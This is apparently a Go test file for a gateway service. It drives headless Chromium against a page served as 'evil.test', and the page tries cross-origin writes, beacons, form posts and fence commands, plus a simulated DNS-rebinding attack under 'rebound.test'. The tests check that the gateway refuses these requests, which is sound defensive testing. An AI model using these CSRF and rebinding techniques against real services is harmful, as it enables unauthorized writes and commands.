//go:build unix

package gateway

import (
	"context"
	"encoding/json"
	"fmt"
	"io"
	"net"
	"net/http"
	"net/http/httptest"
	"net/url"
	"os/exec"
	"strconv"
	"strings"
	"sync/atomic"
	"testing"
	"time"

	"github.com/geogate/geogate/testbench/proc"
)

// chromium opens pages in a real browser, in which every host that ends in .test
// is 127.0.0.2.
func chromium(t *testing.T, address string) {
	t.Helper()
	path := ""
	for _, name := range []string{"chromium", "chromium-headless-shell", "google-chrome"} {
		if found, err := exec.LookPath(name); err == nil {
			path = found
			break
		}
	}
	if path == "" {
		t.Skip("there is no browser: install Debian's package chromium")
	}
	p, err := proc.Start(exec.Command(path, "--headless", "--no-sandbox", "--disable-gpu", "--disable-dev-shm-usage", "--no-first-run",
		"--disable-background-networking", "--no-proxy-server", "--host-resolver-rules=MAP *.test 127.0.0.2", "--user-data-dir="+t.TempDir(),
		"--remote-debugging-port=0", address)) // with a port for debugging it stays until it is killed
	if err != nil {
		t.Fatal(err)
	}
	t.Cleanup(p.Kill)
}

// serveOn serves a page's host on 127.0.0.2; port 0 takes a free one. reports get
// what the page sends to /report.
func serveOn(t *testing.T, port string, page string, reports chan<- map[string]string) (base string) {
	t.Helper()
	ln, err := net.Listen("tcp", net.JoinHostPort("127.0.0.2", port))
	if err != nil {
		t.Skipf("this machine has no other loopback address than 127.0.0.1: %v", err)
	}
	srv := &httptest.Server{Listener: ln, Config: &http.Server{Handler: http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		switch r.URL.Path {
		case "/":
			w.Header().Set("Content-Type", "text/html; charset=utf-8")
			_, _ = io.WriteString(w, page)
		case "/report":
			var got map[string]string
			if err := json.NewDecoder(r.Body).Decode(&got); err == nil {
				reports <- got
			}
		default:
			http.NotFound(w, r)
		}
	})}}
	srv.Start()
	t.Cleanup(srv.Close)
	_, port, _ = net.SplitHostPort(ln.Addr().String())
	return "http://evil.test:" + port
}

// script runs steps one after the other, each an expression that gives a promise
// of what is to be told of it, and reports all of it to a host, "" for the page's own.
func script(report string, steps map[string]string) string {
	var b strings.Builder
	b.WriteString("<!doctype html><iframe name=frame></iframe><script>(async () => { const out = {};\n")
	for name, step := range steps {
		fmt.Fprintf(&b, "try { out[%q] = String(await (%s)); } catch (e) { out[%q] = 'error ' + e; }\n", name, step, name)
	}
	fmt.Fprintf(&b, "await fetch(%q, {method: 'POST', mode: 'no-cors', body: JSON.stringify(out)}); })();</script>", report+"/report")
	return b.String()
}

// running runs a world's server until the test ends.
func (w *world) running() {
	ctx, cancel := context.WithCancel(context.Background())
	done := make(chan error, 1)
	go func() { done <- w.s.Run(ctx) }()
	w.t.Cleanup(func() {
		cancel()
		if err := <-done; err != nil {
			w.t.Errorf("run: %v", err)
		}
	})
}

func receive[T any](t *testing.T, what string, c <-chan T) T {
	t.Helper()
	select {
	case v := <-c:
		return v
	case <-time.After(2 * time.Minute):
		t.Fatalf("waited too long for %s", what)
		panic("unreachable")
	}
}

// TestPageOfAnotherOrigin has a page in a real browser try to write and to fence,
// in every way that needs no permission.
func TestPageOfAnotherOrigin(t *testing.T) {
	reg := &commanded{}
	w := newWorld(t, func(_ *Config, d *Deps) { d.Ownership = reg })
	w.running()
	reports := make(chan map[string]string, 1)
	records := "http://" + w.s.DataAddr() + "/v1/topics/github/records"
	fence := "http://" + w.s.ManageAddr() + "/v1/fence"
	const command = `{"region":"eu","reason":"x"}`
	form := func(target string) string { // sent from a frame; it is answered when the frame has loaded
		return fmt.Sprintf(`new Promise(done => {
			const f = document.createElement('form'), i = document.createElement('input');
			f.action = %q; f.method = 'POST'; f.enctype = 'text/plain'; f.target = 'frame';
			i.name = %q; i.value = ''; f.append(i); document.body.append(f);
			document.querySelector('iframe').onload = () => done('sent'); f.submit(); })`, target, command)
	}
	page := script("", map[string]string{
		"write":         fmt.Sprintf(`fetch(%q, {method: 'POST', mode: 'no-cors', headers: {'Content-Type': 'text/plain'}, body: 'x'}).then(r => r.type)`, records),
		"beacon":        fmt.Sprintf(`navigator.sendBeacon(%q, 'x')`, records),
		"form":          form(records),
		"fence":         fmt.Sprintf(`fetch(%q, {method: 'POST', mode: 'no-cors', body: %q}).then(r => r.type)`, fence, command),
		"fence, form":   form(fence),
		"write, asking": fmt.Sprintf(`fetch(%q, {method: 'POST', headers: {'Content-Type': 'application/json'}, body: '{"value":null}'}).then(r => r.status)`, records),
		"read":          fmt.Sprintf(`fetch(%q).then(r => r.text())`, "http://"+w.s.DataAddr()+"/v1/ownership"),
	})
	chromium(t, serveOn(t, "0", page, reports)+"/")
	got := receive(t, "the page's report", reports)
	for step, want := range map[string]string{"beacon": "true", "form": "sent", "fence, form": "sent"} {
		if got[step] != want {
			t.Errorf("%s: %q, want %q", step, got[step], want)
		}
	}
	for _, step := range []string{"write", "fence", "write, asking", "read"} {
		if !strings.HasPrefix(got[step], "error TypeError") {
			t.Errorf("%s: %q, want the browser to keep the answer from the page", step, got[step])
		}
	}
	// The page does not learn what was answered, so the server's own count tells
	// that all five came, and that all were refused. The beacon may be the last.
	eventually(t, "five refused requests", func() bool { return w.metric(`geogate_rejected_total{reason="FOREIGN_ORIGIN"}`) >= 5 })
	if len(w.wrote) > 0 || len(reg.got) > 0 {
		t.Errorf("the page stored %d records and gave %d commands", len(w.wrote), len(reg.got))
	}
}

// eventually waits until something holds.
func eventually(t *testing.T, what string, holds func() bool) {
	t.Helper()
	tick := time.NewTicker(5 * time.Millisecond)
	defer tick.Stop()
	late := time.After(2 * time.Minute)
	for !holds() {
		select {
		case <-tick.C:
		case <-late:
			t.Fatalf("waited too long for %s", what)
		}
	}
}

// metric is the value of a metric, 0 if it is absent.
func (w *world) metric(series string) float64 {
	for line := range strings.Lines(text(w.t, do(w.t, w.s.managementHandler(), get("/metrics")))) {
		if value, ok := strings.CutPrefix(line, series+" "); ok {
			v, err := strconv.ParseFloat(strings.TrimSpace(value), 64)
			if err != nil {
				w.t.Fatal(err)
			}
			return v
		}
	}
	return 0
}

// TestReboundPage has a page whose name is made to point to the gateway once it
// has loaded, so that for the browser the gateway is the page's own origin. With
// the name allowed, the same page writes and reads: what stops it is its name.
func TestReboundPage(t *testing.T) {
	for name, allowed := range map[string][]string{"refused": nil, "allowed": {"rebound.test"}} {
		t.Run(name, func(t *testing.T) {
			reg := &commanded{}
			w := newWorld(t, func(c *Config, d *Deps) {
				d.Ownership = reg
				c.Data.AllowedHosts, c.Manage.AllowedHosts = allowed, allowed
			})
			w.running()
			reports := make(chan map[string]string, 1)
			report := serveOn(t, "0", "", reports)
			data := rebind(t, w.s.DataAddr(), script(report, map[string]string{
				"read":  `fetch('/v1/ownership').then(r => r.status)`,
				"write": `fetch('/v1/topics/github/records', {method: 'POST', headers: {'Content-Type': 'application/json'}, body: '{"value":{"type":"json","data":1}}'}).then(r => r.status)`,
			}))
			manage := rebind(t, w.s.ManageAddr(), script(report, map[string]string{
				"fence": `fetch('/v1/fence', {method: 'POST', headers: {'Content-Type': 'application/json'}, body: '{"region":"eu","reason":"x"}'}).then(r => r.status)`,
			}))
			want, done := "421", 0
			if allowed != nil {
				want, done = "200", 1
			}
			chromium(t, data)
			got := receive(t, "the page's report", reports)
			chromium(t, manage)
			got["fence"] = receive(t, "the second page's report", reports)["fence"]
			for _, step := range []string{"read", "write", "fence"} {
				if got[step] != want {
					t.Errorf("%s: answered %q, want %s", step, got[step], want)
				}
			}
			if len(w.wrote) != done || len(reg.got) != done {
				t.Errorf("the page stored %d records and gave %d commands, want %d", len(w.wrote), len(reg.got), done)
			}
		})
	}
}

// rebind gives the address of a page under rebound.test with the port of a
// listener. The first request gets the page; whatever comes after it reaches the
// listener, as it would once the name's address has changed.
func rebind(t *testing.T, listener string, page string) (address string) {
	t.Helper()
	_, port, err := net.SplitHostPort(listener)
	if err != nil {
		t.Fatal(err)
	}
	ln, err := net.Listen("tcp", net.JoinHostPort("127.0.0.2", port))
	if err != nil {
		t.Skipf("this machine has no other loopback address than 127.0.0.1: %v", err)
	}
	var rebound atomic.Bool
	origin := "http://" + net.JoinHostPort("rebound.test", port)
	forward := &http.Server{Handler: http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		if r.URL.Path == "/" && rebound.CompareAndSwap(false, true) {
			w.Header().Set("Content-Type", "text/html; charset=utf-8")
			_, _ = io.WriteString(w, page)
			return
		}
		// As the browser sent it, with its Host.
		to := &url.URL{Scheme: "http", Host: listener, Path: r.URL.Path}
		req, err := http.NewRequestWithContext(r.Context(), r.Method, to.String(), r.Body)
		if err != nil {
			http.Error(w, err.Error(), http.StatusBadGateway)
			return
		}
		req.Header, req.Host, req.ContentLength = r.Header, r.Host, r.ContentLength
		resp, err := http.DefaultTransport.RoundTrip(req)
		if err != nil {
			http.Error(w, err.Error(), http.StatusBadGateway)
			return
		}
		defer resp.Body.Close()
		for k, v := range resp.Header {
			w.Header()[k] = v
		}
		w.WriteHeader(resp.StatusCode)
		_, _ = io.Copy(w, resp.Body)
	})}
	ended := make(chan error, 1)
	go func() { ended <- forward.Serve(ln) }()
	t.Cleanup(func() {
		_ = forward.Close()
		<-ended
	})
	return origin + "/"
}
